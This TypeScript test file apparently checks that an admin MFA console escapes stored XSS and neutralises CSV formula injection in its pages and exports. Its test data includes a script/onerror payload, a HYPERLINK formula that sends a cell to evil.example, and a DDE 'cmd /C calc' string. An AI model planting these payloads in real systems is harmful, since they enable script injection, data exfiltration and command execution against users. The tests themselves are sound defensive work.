import { parse } from './csv-reader';
import { createAdminHost, signInProtected } from '../../support/admin-host';
import type { AdminHost } from '../../support/admin-host';
import type { HttpAgent } from '../../support/http-agent';

// Somebody stores script or a formula where an administrator will look at it, or open it in a spreadsheet.

const SCRIPT = '"><script>alert(document.domain)</script><img src=x onerror=alert(1)>';
const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"open")';

describe('stored payloads', () => {
  let host: AdminHost;
  let agent: HttpAgent;

  beforeAll(async () => {
    host = createAdminHost({
      admin: {
        organizationsOf: () => [
          { id: 'acme', name: SCRIPT },
          { id: 'globex', name: FORMULA },
        ],
      },
    });
    ({ agent } = await signInProtected(host, 'ada'));
    host.users.set('alan', { id: 'alan', name: SCRIPT, email: 'alan@acme.example', organizationId: 'acme' });
    host.users.set('mary', {
      id: 'mary',
      name: FORMULA,
      email: '+evil@acme.example',
      organizationId: 'acme',
    });
    host.users.set('tab', { id: 'tab', name: '\t@SUM(1+1)', organizationId: 'acme' });
    const others = [
      'Zoë Müller',
      `Bob;=cmd|' /C calc'!A0`,
      '－2+3',
      '\u200B\u00A0=1+1',
      '\r-1',
      'Bob\t=1',
      'Bob"|"@1',
    ];
    for (const [index, name] of others.entries())
      host.users.set(`other-${index}`, { id: `other-${index}`, name, organizationId: 'acme' });
    host.users.set('<b>id</b>', { id: '<b>id</b>', name: 'Odd id', organizationId: 'acme' });
    await agent.postJson('/admin/mfa/acme/members/alan/exemption', { reason: SCRIPT, until: '2026-12-31' });
    await agent.postJson('/admin/mfa/acme/members/mary/exemption', { reason: FORMULA, until: '2026-12-31' });
    await host.mfa.settled();
  });

  it.each([
    '',
    '/policy',
    '/disable',
    '/members',
    `/members?q=${encodeURIComponent(SCRIPT)}`,
    '/members/alan',
    `/members/${encodeURIComponent('<b>id</b>')}`,
    '/sessions',
    '/events',
    `/events?user=${encodeURIComponent(SCRIPT)}`,
    `/members?done=${encodeURIComponent(SCRIPT)}`,
  ])('are text on %s', async (path) => {
    const { text, status } = await agent.get(`/admin/mfa/acme${path}`);
    expect(status).toBe(200);
    expect(text).not.toMatch(/<script>|<img|<b>id/);
    const withoutValues = text.replaceAll(/"[^"]*"/g, '""');
    expect(withoutValues).not.toMatch(/<[^>]+\son\w+=/);
  });

  it('are text in the chooser', async () => {
    const { text } = await agent.get('/admin/mfa');
    expect(text).toContain('&lt;script&gt;');
    expect(text).not.toContain('<script>alert');
  });

  it('are text after a refused form, which keeps what was typed', async () => {
    const sent = { reason: SCRIPT, until: SCRIPT };
    const refused = await agent.post('/admin/mfa/acme/members/alan/exemption', sent);
    expect(refused.status).toBe(400);
    expect(refused.text).toContain('&lt;script&gt;alert(document.domain)');
    expect(refused.text).not.toContain('<script>alert');
    const policy = await agent.post('/admin/mfa/acme/policy', {
      whole: 'yes',
      skips: SCRIPT,
      graceUntil: SCRIPT,
    });
    expect(policy.status).toBe(400);
    expect(policy.text).not.toContain('<script>alert');
  });

  it.each(['members.csv', 'events.csv'])('start no formula in %s', async (file) => {
    const { text, status } = await agent.get(`/admin/mfa/acme/${file}`);
    expect(status).toBe(200);
    for (const separator of [',', ';', '|'] as const) {
      const fields = parse(text, separator).flat();
      expect(fields.length).toBeGreaterThan(9);
      expect(fields.filter((field) => /^[\s\p{Cf}]*[=+\-@＝＋－＠\t\r\0]/u.test(field))).toEqual([]);
    }
  });

  it('leave nothing outside quotes, and names as they are, in the encoding that Excel expects', async () => {
    const { text } = await agent.get('/admin/mfa/acme/members.csv');
    expect(text.startsWith('\uFEFF"id","name","email"')).toBe(true);
    const lines = text.slice(1).trimEnd().split('\r\n');
    expect(lines.filter((line) => !/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/.test(line))).toEqual([]);
    const names = parse(text).map(([, name]) => name);
    expect(names).toEqual(
      expect.arrayContaining(['Zoë Müller', `Bob;'=cmd|' /C calc'!A0`, "'－2+3", "'=1+1"]),
    );
  });

  it('reach a stored reason without control characters', async () => {
    await agent.postJson('/admin/mfa/acme/members/sync/exemption', {
      reason: 'a\r\nb\u0000c',
      until: '2026-12-31',
    });
    const { settings } = await host.records.findMember('sync', 'acme');
    expect(settings.exemption?.reason).not.toMatch(/\p{Cc}/u);
  });
});
